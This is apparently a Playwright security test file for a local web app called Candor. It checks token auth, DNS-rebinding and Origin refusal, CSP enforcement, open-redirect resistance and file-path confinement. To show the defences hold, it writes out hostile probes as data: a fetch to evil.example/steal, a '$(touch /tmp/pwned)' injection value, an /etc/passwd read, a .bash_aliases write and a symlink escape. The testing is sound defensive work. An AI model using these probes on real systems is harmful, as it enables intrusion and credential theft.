// The local web mode listens on 127.0.0.1, where any web page the person opens can reach it. These
// tests play the attacker (no token, a rebound Host, a foreign Origin) and the auditor (no Node.js
// in the page, a CSP that is enforced, no request to anywhere but the server).
import { existsSync } from 'node:fs';
import { mkdtemp, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { CandorApp } from './pages/CandorApp';
import { DataTypeEditorPage } from './pages/DataTypeEditorPage';
import { InventoryPage } from './pages/InventoryPage';
import { expect, test } from './support/fixtures';
import { rawRequest } from './support/raw-http';

test('the page has no Node.js', async ({ app }) => {
  const surface = await app.page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    return {
      windowRequire: typeof w.require,
      windowProcess: typeof w.process,
      windowModule: typeof w.module,
      // Bare names, as a page script would use them.
      require: typeof require,
      process: typeof process,
    };
  });
  expect(surface).toEqual({
    windowRequire: 'undefined',
    windowProcess: 'undefined',
    windowModule: 'undefined',
    require: 'undefined',
    process: 'undefined',
  });
});

test('candor serve prints one line, and the token in it becomes an HttpOnly cookie and leaves the address bar', async ({
  app,
  candor,
  page,
}) => {
  expect(candor.stdout()).toBe(`Candor is running at ${candor.base}/?token=${candor.token}\n`);
  expect(candor.token.length).toBeGreaterThanOrEqual(32);
  expect(page.url()).not.toContain(candor.token);
  expect(new URL(page.url()).searchParams.has('token')).toBe(false);
  const cookies = await page.context().cookies(`${candor.base}/`);
  const cookie = cookies.find((c) => c.value === candor.token);
  expect(cookie, 'the token is kept in a cookie').toBeDefined();
  // Scoped to the per-run path: other servers on 127.0.0.1 (cookies ignore ports) never receive it.
  expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'Strict', path: `${new URL(candor.base).pathname}/` });
  // The page's own scripts cannot read it.
  expect(await page.evaluate(() => document.cookie)).not.toContain(candor.token);
  await expect(app.saveStatus).toHaveAttribute('data-status', 'saved');
});

test('requests without the token get 401', async ({ browser, request, candor }) => {
  await test.step('a fresh browser context, with no cookie', async () => {
    const context = await browser.newContext();
    try {
      const page = await context.newPage();
      const response = await page.goto(`${candor.base}/`);
      expect(response?.status()).toBe(401);
      await expect(page.locator('body')).toContainText('did not carry the access token');
      const invoke = await page.evaluate(async () => {
        const r = await fetch('api/invoke/workspace-get', {
          method: 'POST',
          headers: { 'Content-Type': 'application/json' },
          body: '{}',
        });
        return { status: r.status, text: await r.text() };
      });
      expect(invoke.status).toBe(401);
      expect(invoke.text).not.toContain('"workspace"');
      const events = await page.evaluate(async () => (await fetch('api/events')).status);
      expect(events).toBe(401);
    } finally {
      await context.close();
    }
  });

  await test.step('Playwright’s request context and Node’s fetch, with no cookie', async () => {
    expect((await request.get(`${candor.base}/`)).status()).toBe(401);
    expect((await request.post(`${candor.base}/api/invoke/workspace-get`, { data: {} })).status()).toBe(401);
    expect((await request.get(`${candor.base}/api/events`)).status()).toBe(401);
    expect((await fetch(`${candor.base}/`)).status).toBe(401);
    const invoke = await fetch(`${candor.base}/api/invoke/workspace-get`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: '{}',
    });
    expect(invoke.status).toBe(401);
    expect((await rawRequest(candor.port, { path: `${new URL(candor.base).pathname}/api/events` })).status).toBe(401);
  });

  await test.step('a wrong token is no better than none', async () => {
    const wrong = candor.token.replace(/^./, (c) => (c === 'A' ? 'B' : 'A'));
    expect((await fetch(`${candor.base}/?token=${wrong}`, { redirect: 'manual' })).status).toBe(401);
    const invoke = await fetch(`${candor.base}/api/invoke/workspace-get`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-Candor-Token': wrong },
      body: '{}',
    });
    expect(invoke.status).toBe(401);
  });

  await test.step('the right token opens the same doors (so the 401s above are about the token)', async () => {
    const invoke = await fetch(`${candor.base}/api/invoke/workspace-get`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-Candor-Token': candor.token },
      body: '{}',
    });
    expect(invoke.status).toBe(200);
    expect(await invoke.json()).toMatchObject({ ok: true, value: { status: 'open' } });
    const events = await rawRequest(candor.port, {
      path: `${new URL(candor.base).pathname}/api/events`,
      headers: { 'X-Candor-Token': candor.token },
    });
    expect(events.status).toBe(200);
  });
});

test('a request with the token but a foreign Host is refused', async ({ candor, workspaceFile }) => {
  const before = await readFile(workspaceFile, 'utf8');
  const invoke = (host: string) =>
    rawRequest(candor.port, {
      method: 'POST',
      path: `${new URL(candor.base).pathname}/api/invoke/workspace-get`,
      headers: { Host: host, 'Content-Type': 'application/json', 'X-Candor-Token': candor.token },
      body: '{}',
    });

  const rebound = await invoke(`evil.example:${candor.port}`);
  expect(rebound.status).toBe(421);
  expect(rebound.body).not.toContain('"workspace"');
  const page = await rawRequest(candor.port, {
    path: `${new URL(candor.base).pathname}/?token=${candor.token}`,
    headers: { Host: `evil.example:${candor.port}` },
  });
  expect(page.status).toBe(421);
  expect(page.headers['set-cookie']).toBeUndefined();

  // The same request addressed to the server's own name is answered.
  const own = await invoke(`127.0.0.1:${candor.port}`);
  expect(own.status).toBe(200);
  expect(JSON.parse(own.body)).toMatchObject({ ok: true });
  expect(await readFile(workspaceFile, 'utf8')).toBe(before);
});

test('a POST from a foreign Origin is refused and changes nothing', async ({ candor, workspaceFile, initialWorkspace }) => {
  const before = await readFile(workspaceFile, 'utf8');
  const post = (name: string, origin: string, body: unknown) =>
    rawRequest(candor.port, {
      method: 'POST',
      path: `${new URL(candor.base).pathname}/api/invoke/${name}`,
      headers: {
        Host: `127.0.0.1:${candor.port}`,
        Origin: origin,
        'Content-Type': 'application/json',
        'X-Candor-Token': candor.token,
      },
      body: JSON.stringify(body),
    });

  const read = await post('workspace-get', 'https://evil.example', {});
  expect(read.status).toBe(403);
  expect(read.body).not.toContain('"workspace"');

  const own = await post('workspace-get', candor.origin, {});
  expect(own.status).toBe(200);
  const state = JSON.parse(own.body) as { ok: true; value: { revision: string } };

  const emptied = { ...initialWorkspace, dataTypes: [] };
  const write = await post('workspace-save', 'https://evil.example', { workspace: emptied, baseRevision: state.value.revision });
  expect(write.status).toBe(403);
  expect(await readFile(workspaceFile, 'utf8')).toBe(before);
});

test('a Content-Security-Policy is declared and enforced', async ({ candor, page, app }) => {
  const leaks: string[] = [];
  await page.route(
    (url) => !url.href.startsWith(`${candor.base}/`),
    (route) => {
      leaks.push(route.request().url());
      return route.abort();
    },
  );

  await test.step('in the response header and the page’s meta tag', async () => {
    const response = await page.goto(`${candor.base}/`);
    expect(response?.status()).toBe(200);
    const header = response!.headers()['content-security-policy'];
    expect(header).toBeDefined();
    for (const csp of [header, await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')]) {
      expect(csp).toContain("default-src 'self'");
      expect(csp).toContain("script-src 'self'");
      expect(csp).toContain("connect-src 'self'");
      expect(csp).toContain("object-src 'none'");
      expect(csp).not.toContain('unsafe-eval');
      expect(csp).not.toMatch(/https?:|\*/);
    }
    await expect(app.saveStatus).toBeVisible();
  });

  await test.step('an injected inline script does not run and a fetch elsewhere is blocked', async () => {
    const outcome = await page.evaluate(async () => {
      const w = window as unknown as { __violationsSeen: string[]; __candorInlineRan?: boolean };
      w.__violationsSeen = [];
      document.addEventListener('securitypolicyviolation', (e) => w.__violationsSeen.push(`${e.effectiveDirective} ${e.blockedURI}`));
      const script = document.createElement('script');
      script.textContent = 'window.__candorInlineRan = true;';
      // An inline script that is allowed runs as it is inserted, so the flag is settled after this line.
      document.head.append(script);
      let fetchFailed = false;
      try {
        await fetch('https://evil.example/steal');
      } catch {
        fetchFailed = true;
      }
      return { inlineRan: w.__candorInlineRan === true, fetchFailed };
    });
    expect(outcome.inlineRan).toBe(false);
    expect(outcome.fetchFailed).toBe(true);
    // The browser reports each violation in an event of its own, after the fact: wait for both.
    await expect
      .poll(() => page.evaluate(() => (window as unknown as { __violationsSeen: string[] }).__violationsSeen))
      .toEqual(expect.arrayContaining(['script-src-elem inline', 'connect-src https://evil.example/steal']));
    // The policy stopped the fetch before it reached the network.
    expect(leaks).toEqual([]);
  });
});

test('no request leaves the machine during a whole session', async ({ page, candor }) => {
  // Recording starts before the page is first opened, so loading the app counts too.
  const requests: string[] = [];
  page.context().on('request', (request) => requests.push(request.url()));
  // A request the CSP blocks never reaches the network, so count policy violations too.
  await page.addInitScript(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  const violations = () => page.evaluate(() => (window as unknown as { __violations: string[] }).__violations);
  const app = new CandorApp(page, candor);
  const inventory = new InventoryPage(page);
  const editor = new DataTypeEditorPage(page);

  await test.step('open, search, filter and edit', async () => {
    await app.open();
    await inventory.search.fill('email');
    await expect(inventory.count).toHaveText(/ of /);
    await inventory.search.fill('');
    await inventory.filterBy('status', 'In review');
    await inventory.clearFilters();
    await inventory.open('Email address');
    await editor.benefit.fill('You can sign in anywhere and get your receipts.');
    await app.waitForSaved();
    await editor.backLink.click();
    await inventory.addFromLibrary('photo', 'Photos');
    await expect(editor.title).toHaveText('Photos');
  });

  await test.step('visit every screen, menu and dialog', async () => {
    for (const section of ['Purposes', 'Recipients', 'Collection points', 'Organization & settings', 'Data types'] as const) {
      await app.goTo(section);
    }
    await app.chooseFileMenuItem('About Candor');
    const dialog = page.getByRole('dialog');
    await expect(dialog).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    await app.chooseFileMenuItem('Backups…');
    await expect(dialog).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(dialog).toBeHidden();
    await app.header.getByRole('button', { name: /Switch to (dark|light) theme/ }).click();
    await app.reload();
    await expect(inventory.heading).toBeVisible();
  });

  await test.step('every request went to the server', async () => {
    const prefix = new URL(candor.base).pathname;
    const paths = requests.map((url) => (url.startsWith(`${candor.base}/`) ? new URL(url).pathname.slice(prefix.length) : url));
    // The recorder saw the session (so an empty list cannot pass for a clean one).
    expect(paths).toEqual(
      expect.arrayContaining(['/', '/api/invoke/workspace-get', '/api/invoke/workspace-save', '/api/invoke/backup-list', '/api/events']),
    );
    expect(paths.some((p) => p.startsWith('/assets/') && p.endsWith('.js'))).toBe(true);
    const elsewhere = requests.filter((url) => !url.startsWith(`${candor.base}/`) && !/^(data|blob):/.test(url));
    expect(elsewhere).toEqual([]);
    expect(await violations()).toEqual([]);
  });
});

test('no other server on the machine ever receives the token', async ({ page, candor, app }) => {
  // Opened the way a person does: the printed link, which leaves the token in a cookie.
  await expect(app.saveStatus).toHaveAttribute('data-status', 'saved');
  const seen: { url: string; headers: Record<string, string | string[] | undefined> }[] = [];
  const other = createServer((req, res) => {
    seen.push({ url: req.url ?? '', headers: req.headers });
    res.writeHead(200, { 'Content-Type': 'text/html' });
    res.end('<!doctype html><title>another local tool</title><img src="/pixel.png"><script src="/app.js"></script>');
  });
  await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
  try {
    const port = (other.address() as AddressInfo).port;
    for (const host of ['127.0.0.1', 'localhost']) {
      await page.goto(`http://${host}:${port}/`);
      await page.goto(`http://${host}:${port}/api/invoke/workspace-get`);
    }
    // The recorder saw the visits (so an empty list cannot pass for a clean one).
    expect(seen.length).toBeGreaterThanOrEqual(4);
    for (const request of seen) {
      expect(JSON.stringify(request)).not.toContain(candor.token);
      expect(String(request.headers.cookie ?? '')).not.toMatch(/candor_token/);
    }
  } finally {
    await new Promise((resolve) => other.close(resolve));
  }
});

test('the token exchange redirects only within Candor, never to another host', async ({ candor }) => {
  const prefix = new URL(candor.base).pathname;
  for (const sneaky of ['/.//evil.example/', '//evil.example/', '/\\evil.example/', '/%2F%2Fevil.example/']) {
    const answer = await rawRequest(candor.port, { path: `${prefix}${sneaky}?token=${candor.token}` });
    expect(answer.status, sneaky).toBe(303);
    expect(answer.headers.location, sneaky).toMatch(new RegExp(`^${prefix}/[^/\\\\]`));
    expect(new URL(answer.headers.location as string, candor.origin).origin, sneaky).toBe(candor.origin);
  }
  // Outside the per-run path there is nothing, and no redirect at all.
  const outside = await rawRequest(candor.port, { path: `/.//evil.example/?token=${candor.token}` });
  expect(outside.status).toBe(404);
  expect(outside.headers.location).toBeUndefined();
  expect(outside.headers['set-cookie']).toBeUndefined();
});

test('a page with the token can use files only inside the workspace folder, and never replaces one unasked', async ({
  candor,
  workspaceFile,
}) => {
  const invoke = async (name: string, arg: unknown) => {
    const response = await fetch(`${candor.base}/api/invoke/${name}`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'X-Candor-Token': candor.token },
      body: JSON.stringify(arg),
    });
    return (await response.json()) as { ok: boolean; error?: { code: string; message: string } };
  };
  const outside = await mkdtemp(join(tmpdir(), 'candor-outside-'));
  try {
    const aliases = join(outside, '.bash_aliases');
    expect(await invoke('workspace-new', { path: aliases, name: '$(touch /tmp/pwned)' })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(await invoke('workspace-new', { path: join(outside, 'x.candor.json') })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(existsSync(aliases) || existsSync(join(outside, 'x.candor.json'))).toBe(false);
    const notes = join(outside, 'notes.md');
    await writeFile(notes, 'my notes');
    expect(await invoke('export-file', { kind: 'app-store-answers', path: notes, allowErrors: true, overwrite: true })).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(await readFile(notes, 'utf8')).toBe('my notes');
    const passwd = await invoke('workspace-open', { path: '/etc/passwd' });
    expect(passwd).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    expect(JSON.stringify(passwd)).not.toContain('root:');
    expect(await invoke('import-preview', { path: '/etc/hosts.csv' })).toMatchObject({ ok: false, error: { code: 'forbidden' } });
    // A link inside the folder that leads out of it is outside too.
    await symlink(outside, join(dirname(workspaceFile), 'escape'));
    expect(
      await invoke('export-file', { kind: 'app-store-answers', path: join(dirname(workspaceFile), 'escape', 'a.md'), allowErrors: true }),
    ).toMatchObject({
      ok: false,
      error: { code: 'forbidden' },
    });
    expect(existsSync(join(outside, 'a.md'))).toBe(false);
  } finally {
    await rm(outside, { recursive: true, force: true });
  }

  // Inside the folder: a new file is written, an existing one only with overwrite.
  const inside = join(dirname(workspaceFile), 'answers.md');
  expect(await invoke('export-file', { kind: 'app-store-answers', path: inside, allowErrors: true })).toMatchObject({ ok: true });
  await writeFile(inside, 'edited by hand');
  expect(await invoke('export-file', { kind: 'app-store-answers', path: inside, allowErrors: true })).toMatchObject({
    ok: false,
    error: { code: 'exists' },
  });
  expect(await readFile(inside, 'utf8')).toBe('edited by hand');
  expect(await invoke('export-file', { kind: 'app-store-answers', path: inside, allowErrors: true, overwrite: true })).toMatchObject({
    ok: true,
  });
  expect(await readFile(inside, 'utf8')).not.toBe('edited by hand');
});
